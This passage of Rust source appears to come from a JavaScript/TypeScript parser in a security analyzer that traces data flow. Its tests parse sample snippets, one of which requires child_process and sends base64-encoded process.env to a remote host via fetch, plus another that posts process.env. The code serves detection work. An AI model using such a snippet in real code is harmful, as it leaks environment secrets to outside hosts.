                    ok = self.at_op("=>");
                }
                if !ok {
                    self.i = start;
                    return None;
                }
                let after = self.i;
                self.i = save;
                let (p, d) = self.params();
                defaults = d;
                self.i = after;
                p
            }
            _ => {
                self.i = start;
                return None;
            }
        };
        if !self.eat_op("=>") {
            self.i = start;
            return None;
        }
        let mut body = defaults;
        if self.eat_op("{") {
            let outer = self.weak;
            self.weak = 0;
            body.extend(self.statements(true));
            self.weak = outer;
        } else {
            let outer = std::mem::take(&mut self.pending);
            let e = self.expr();
            body.append(&mut self.pending);
            self.pending = outer;
            body.push(Stmt::Return(e));
        }
        Some(Expr::Lambda(Box::new(Function {
            name: "<arrow>".into(),
            params,
            body,
            pos,
            class: self.class.clone(),
        })))
    }

    fn binary(&mut self, min: u8) -> Expr {
        let Some(_guard) = DepthGuard::enter() else {
            too_deep(self.pos().line);
            self.i = self.t.len();
            return Expr::Unknown;
        };
        let mut lhs = self.unary();
        while let Some(t) = self.peek() {
            let op: &str = match &t.tok {
                Tok::Op(o) => o,
                Tok::Name(n) if n == "instanceof" || n == "in" => n,
                Tok::Name(n) if n == "as" || n == "satisfies" => {
                    self.i += 1;
                    self.skip_type();
                    continue;
                }
                _ => break,
            };
            let Some(p) = bp(op) else { break };
            if p < min {
                break;
            }
            self.i += 1;
            let rhs = self.binary(if op == "**" { p } else { p + 1 });
            lhs = match op {
                "+" => match lhs {
                    Expr::Concat(mut v) => {
                        v.push(rhs);
                        Expr::Concat(v)
                    }
                    l => Expr::Concat(vec![l, rhs]),
                },
                "||" | "??" => Expr::Or(vec![lhs, rhs]),
                _ => Expr::Mix(vec![lhs, rhs]),
            };
        }
        lhs
    }

    fn unary(&mut self) -> Expr {
        let Some(t) = self.peek() else {
            return Expr::Unknown;
        };
        match &t.tok {
            Tok::Op("!" | "-" | "+" | "~" | "++" | "--") => {
                self.i += 1;
                Expr::Mix(vec![self.unary()])
            }
            Tok::Op("...") => {
                self.i += 1;
                self.unary()
            }
            Tok::Name(n) if matches!(n.as_str(), "typeof" | "void" | "delete") => {
                self.i += 1;
                Expr::Mix(vec![self.unary()])
            }
            Tok::Name(n) if n == "await" || n == "yield" => {
                self.i += 1;
                self.eat_op("*");
                if self
                    .peek()
                    .is_some_and(|t| t.nl_before || t.is_op(")") || t.is_op(";"))
                {
                    return Expr::Unknown;
                }
                self.unary()
            }
            Tok::Name(n) if n == "new" => {
                let pos = t.pos;
                self.i += 1;
                if self.at_op(".") {
                    // new.target
                    self.i += 2;
                    return Expr::Unknown;
                }
                let callee = self.member_only();
                if self.at_op("<") {
                    self.skip_type_args();
                }
                let args = if self.at_op("(") {
                    self.args()
                } else {
                    Vec::new()
                };
                let e = Expr::Call(Box::new(Call {
                    callee,
                    args,
                    pos,
                    stdin: None,
                    command: false,
                }));
                self.postfix(e)
            }
            _ => {
                let e = self.primary();
                let e = self.postfix(e);
                if self
                    .peek()
                    .is_some_and(|t| !t.nl_before && (t.is_op("++") || t.is_op("--")))
                {
                    self.i += 1;
                }
                e
            }
        }
    }

    /// TypeScript type arguments of a call (`gql<{ a: T }>(…)`, `new Set<string>()`): skips
    /// them when a balanced `<…>` is followed by `(` or a template; else leaves `<` alone
    /// (a comparison).
    fn skip_type_args(&mut self) -> bool {
        let mut angle = 0i32;
        let mut depth = 0i32;
        for k in self.i..self.t.len().min(self.i + 400) {
            let t = &self.t[k];
            match &t.tok {
                Tok::Op("<") => angle += 1,
                Tok::Op(">") => angle -= 1,
                Tok::Op(">>") => angle -= 2,
                Tok::Op(">>>") => angle -= 3,
                Tok::Op("(" | "[" | "{") => depth += 1,
                Tok::Op(")" | "]" | "}") => {
                    depth -= 1;
                    if depth < 0 {
                        return false;
                    }
                }
                Tok::Op(";" | "=" | "&&" | "||" | "==" | "===" | "!=" | "!==" | "?")
                    if depth == 0 =>
                {
                    return false;
                }
                _ if depth == 0 && k > self.i && t.nl_before => return false,
                _ => {}
            }
            if angle <= 0 {
                let next = self.t.get(k + 1);
                let call = angle == 0
                    && depth == 0
                    && next.is_some_and(|n| n.is_op("(") || matches!(n.tok, Tok::Str(_)));
                if call {
                    self.i = k + 1;
                }
                return call;
            }
        }
        false
    }

    /// `a.b.c` without calls (the callee of `new`).
    fn member_only(&mut self) -> Expr {
        let mut e = self.primary();
        while self.at_op(".") {
            let pos = self.pos();
            self.i += 1;
            match self.peek().and_then(|t| t.name()) {
                Some(n) => {
                    self.i += 1;
                    e = Expr::Attr(Box::new(e), n.to_string(), pos);
                }
                None => break,
            }
        }
        e
    }

    fn args(&mut self) -> Vec<Arg> {
        let mut args = Vec::new();
        if !self.eat_op("(") {
            return args;
        }
        while let Some(t) = self.peek() {
            if t.is_op(")") {
                self.i += 1;
                break;
            }
            if t.is_op(",") {
                self.i += 1;
                continue;
            }
            let spread = self.eat_op("...");
            let before = self.i;
            let value = self.expr();
            if self.i == before {
                self.i += 1;
                continue;
            }
            args.push(Arg {
                name: None,
                value,
                spread,
            });
        }
        args
    }

    fn postfix(&mut self, mut e: Expr) -> Expr {
        while let Some(t) = self.peek() {
            let pos = t.pos;
            match &t.tok {
                Tok::Op(".") | Tok::Op("?.") => {
                    self.i += 1;
                    self.eat_op("#");
                    match self.peek() {
                        Some(n) if n.name().is_some() => {
                            self.i += 1;
                            e = Expr::Attr(Box::new(e), n.name().unwrap_or("").to_string(), pos);
                        }
                        Some(n) if n.is_op("(") => {
                            let args = self.args();
                            e = Expr::Call(Box::new(Call {
                                callee: e,
                                args,
                                pos,
                                stdin: None,
                                command: false,
                            }));
                        }
                        Some(n) if n.is_op("[") => {}
                        _ => break,
                    }
                }
                Tok::Op("(") => {
                    let args = self.args();
                    e = Expr::Call(Box::new(Call {
                        callee: e,
                        args,
                        pos,
                        stdin: None,
                        command: false,
                    }));
                }
                Tok::Op("<") if self.skip_type_args() => {}
                Tok::Op("[") => {
                    self.i += 1;
                    let idx = self.expr_seq();
                    self.eat_op("]");
                    e = Expr::Index(Box::new(e), Box::new(idx), pos);
                }
                Tok::Op("!")
                    if !t.nl_before
                        && !self
                            .peek_at(1)
                            .is_some_and(|n| n.is_op("=") || n.is_op("==")) =>
                {
                    // TypeScript non-null assertion.
                    self.i += 1;
                }
                Tok::Str(parts) if !t.nl_before => {
                    // Tagged template.
                    self.i += 1;
                    let mut v = vec![e];
                    v.extend(template_parts(parts));
                    e = Expr::Concat(v);
                }
                _ => break,
            }
        }
        e
    }

    fn primary(&mut self) -> Expr {
        let Some(t) = self.peek() else {
            return Expr::Unknown;
        };
        let pos = t.pos;
        match &t.tok {
            Tok::Name(n) => {
                self.i += 1;
                match n.as_str() {
                    "function" => {
                        self.eat_op("*");
                        let name = match self.peek().and_then(|t| t.name()) {
                            Some(nm) => {
                                self.i += 1;
                                nm.to_string()
                            }
                            None => "<function>".to_string(),
                        };
                        Expr::Lambda(Box::new(self.function_rest(name, pos)))
                    }
                    "async" if self.at_name("function") => self.primary(),
                    "class" => {
                        self.i -= 1;
                        let mut sink = Vec::new();
                        self.class_decl(&mut sink);
                        Expr::Unknown
                    }
                    "null" | "undefined" | "true" | "false" => Expr::Unknown,
                    _ => Expr::Name(n.clone(), pos),
                }
            }
            Tok::Num(v) => {
                self.i += 1;
                v.map(Expr::Num).unwrap_or(Expr::Unknown)
            }
            Tok::Str(parts) => {
                self.i += 1;
                let pieces = template_parts(parts);
                match pieces.len() {
                    0 => Expr::Str(String::new()),
                    1 => pieces.into_iter().next().unwrap_or(Expr::Unknown),
                    _ => Expr::Concat(pieces),
                }
            }
            Tok::Regex => {
                self.i += 1;
                Expr::Unknown
            }
            Tok::Op("(") => {
                self.i += 1;
                let outer = std::mem::take(&mut self.no_assign);
                let e = self.expr_seq();
                self.no_assign = outer;
                self.eat_op(")");
                e
            }
            Tok::Op("[") => {
                self.i += 1;
                let mut items = Vec::new();
                while let Some(t) = self.peek() {
                    if t.is_op("]") {
                        self.i += 1;
                        break;
                    }
                    if t.is_op(",") {
                        self.i += 1;
                        continue;
                    }
                    let spread = self.eat_op("...");
                    let before = self.i;
                    self.no_assign += 1;
                    match self.expr() {
                        // `[..."lmth"]` is the string's characters, so a reversed word can
                        // be read back.
                        Expr::Str(text) if spread => {
                            items.extend(text.chars().map(|c| Expr::Str(c.to_string())));
                        }
                        e => items.push(e),
                    }
                    self.no_assign -= 1;
                    if self.eat_op("=") {
                        // A default in an array pattern (`[dir = ".", , out] = argv`).
                        let _ = self.expr();
                    }
                    if self.i == before {
                        self.i += 1;
                    }
                }
                Expr::List(items)
            }
            Tok::Op("{") => {
                self.i += 1;
                self.object()
            }
            _ => {
                unexpected(t);
                self.i += 1;
                Expr::Unknown
            }
        }
    }

    fn object(&mut self) -> Expr {
        let mut fields = Vec::new();
        while let Some(t) = self.peek() {
            if t.is_op("}") {
                self.i += 1;
                break;
            }
            if t.is_op(",") {
                self.i += 1;
                continue;
            }
            let pos = t.pos;
            if self.eat_op("...") {
                fields.push((None, self.expr()));
                continue;
            }
            // Modifiers of methods.
            while self
                .peek()
                .is_some_and(|t| matches!(t.name(), Some("async" | "get" | "set")))
                && self
                    .peek_at(1)
                    .is_some_and(|n| n.name().is_some() || n.is_op("["))
            {
                self.i += 1;
            }
            self.eat_op("*");
            let key = match &t.tok {
                _ if self.at_op("[") => {
                    self.i += 1;
                    let k = self.expr();
                    self.eat_op("]");
                    match k {
                        Expr::Str(s) => Some(s),
                        _ => None,
                    }
                }
                _ => match self.peek().map(|t| &t.tok) {
                    Some(Tok::Name(n)) => {
                        self.i += 1;
                        Some(n.clone())
                    }
                    Some(Tok::Str(p)) => {
                        self.i += 1;
                        lit_of(p)
                    }
                    Some(Tok::Num(_)) => {
                        self.i += 1;
                        None
                    }
                    _ => {
                        if let Some(t) = self.peek() {
                            unexpected(t);
                        }
                        self.i += 1;
                        continue;
                    }
                },
            };
            if self.eat_op(":") {
                let v = self.expr();
                fields.push((key, v));
            } else if self.at_op("(") {
                let f = self.function_rest(key.clone().unwrap_or_default(), pos);
                fields.push((key, Expr::Lambda(Box::new(f))));
            } else if let Some(k) = key {
                // Shorthand `{a}` (or default in a pattern `{a = 1}`).
                if self.eat_op("=") {
                    let _ = self.expr();
                }
                fields.push((Some(k.clone()), Expr::Name(k, pos)));
            }
        }
        Expr::Dict(fields)
    }
}

fn lit_of(parts: &[StrPart]) -> Option<String> {
    match parts {
        [] => Some(String::new()),
        [StrPart::Lit(s)] => Some(s.clone()),
        _ => None,
    }
}

fn template_parts(parts: &[StrPart]) -> Vec<Expr> {
    parts
        .iter()
        .map(|p| match p {
            StrPart::Lit(s) => Expr::Str(s.clone()),
            StrPart::Expr(toks) => {
                let mut p = Parser {
                    t: toks,
                    i: 0,
                    functions: Vec::new(),
                    weak: 0,
                    class: None,
                    pending: Vec::new(),
                    stmt_level: false,
                    no_assign: 0,
                };
                let e = p.expr_seq();
                if let Some(t) = p.peek() {
                    unexpected(t);
                }
                e
            }
        })
        .collect()
}

/// What an assignment to `lhs` binds, if it is a place (name, member, index, pattern).
fn assign_target(lhs: &Expr) -> Option<Target> {
    match lhs {
        Expr::Name(n, _) => Some(Target::Name(n.clone())),
        Expr::Attr(b, f, _) => Some(Target::Attr((**b).clone(), f.clone())),
        Expr::Index(b, _, _) => Some(Target::Index((**b).clone())),
        Expr::Dict(_) | Expr::List(_) => pattern_target(lhs.clone()),
        _ => None,
    }
}

/// Binding pattern (`{a, b: c}` / `[a, b]`) parsed as an expression → destructuring target.
fn pattern_target(e: Expr) -> Option<Target> {
    match e {
        Expr::Dict(fields) => Some(Target::Destructure(
            fields
                .into_iter()
                .filter_map(|(k, v)| match v {
                    Expr::Name(n, _) => Some((k, n)),
                    _ => None,
                })
                .collect(),
        )),
        Expr::List(items) => Some(Target::Destructure(
            items
                .into_iter()
                .filter_map(|v| match v {
                    Expr::Name(n, _) => Some((None, n)),
                    _ => None,
                })
                .collect(),
        )),
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn requires_templates_arrows() {
        let src = "#!/usr/bin/env node\nconst { execSync: run } = require('child_process');\nconst url = `https://${host}/x?d=${Buffer.from(JSON.stringify(process.env)).toString('base64')}`;\nfetch(url, { method: 'POST', body: data }).then(r => r.text());\n";
        let m = parse(src);
        let s = format!("{:?}", m.body);
        assert!(
            s.contains("child_process") && s.contains("execSync") && s.contains("process"),
            "{s}"
        );
        assert_eq!(m.body.len(), 3, "{s}");
    }

    #[test]
    fn typescript_and_classes() {
        let src = "import * as fs from 'fs';\ninterface A { x: string }\ntype B = { y: number };\nexport class C {\n  private k: string = 'a';\n  async send(data: string): Promise<void> {\n    await fetch(this.k, { body: data });\n  }\n}\nfunction f(a: number, ...rest: string[]): void { return; }\nconst g = async (x) => { return x; };\n";
        let m = parse(src);
        let names: Vec<&str> = m.functions.iter().map(|f| f.name.as_str()).collect();
        // The field initialiser `k = 'a'` runs in the (made-up) constructor.
        assert_eq!(names, vec!["C.send", "C.constructor", "f", "g"]);
        assert_eq!(m.functions[0].params.len(), 1);
        assert!(m.functions[2].params[1].rest);
    }

    #[test]
    fn regex_and_division() {
        let m = parse(
            "const a = b / c / d;\nconst r = /ab\\/c[/]/g.test(x);\nlet z = `a${`b${c}`}`;\n",
        );
        assert_eq!(m.body.len(), 3, "{:?}", m.body);
    }

    #[test]
    fn constructs_that_used_to_be_skipped() {
        let cases = [
            // An escape right before a substitution; escaped backquotes; a regex with a
            // quote and a nested template inside a substitution.
            "console.error(`\\nFAIL:\\n${problems.map((p) => `  - ${p}`).join(\"\\n\")}`);\n",
            "const md = `use \\`x\\` and \\`\\`\\`` + y;\n",
            "const sh = (s) => `'${String(s).replace(/'/g, `'\\\\''`)}'`;\n",
            // Assignments inside expressions.
            "setTimeout(() => (btn.textContent = LABEL), 1500);\n(byFile[f] ||= []).push(c);\n",
            "e.type = \"button\", e.className = \"copy\", e.textContent = n;\n",
            // Array patterns with defaults and holes.
            "const [dir = \".\", , db] = process.argv.slice(2);\n",
            // TypeScript type arguments and function types.
            "const data = await gql<{ teams: { nodes: { id: string }[] } }>(q);\nconst keys = new Set<string>();\n",
            "const f = g as (u: string, o: object) => Promise<unknown>;\nconst m: Map<string, Array<number>> = new Map();\nfoo();\n",
        ];
        for src in cases {
            let m = parse(src);
            assert_eq!(m.unparsed, vec![], "{src}");
        }
        // The substitution after `\\n` is read: `problems` reaches the call.
        let s = format!("{:?}", parse(cases[0]).body);
        assert!(s.contains("problems"), "{s}");
        // `x` assigned inside parentheses is bound before the statement.
        let m = parse("(x = process.env);\nfetch(u, { body: x });\n");
        assert!(
            matches!(&m.body[0], Stmt::Assign { targets, .. } if targets == &vec![Target::Name("x".into())]),
            "{:?}",
            m.body
        );
        // `foo()` after a `>>` in a type annotation is not swallowed.
        let s = format!("{:?}", parse(cases[7]).body);
        assert!(s.contains("foo"), "{s}");
    }

    #[test]
    fn hostile_nesting() {
        let _ = parse(&"(".repeat(20000));
        let _ = parse(&"{".repeat(20000));
        let _ = parse(&"`${".repeat(5000));
        let _ = parse(&"a=>".repeat(5000));
    }
}
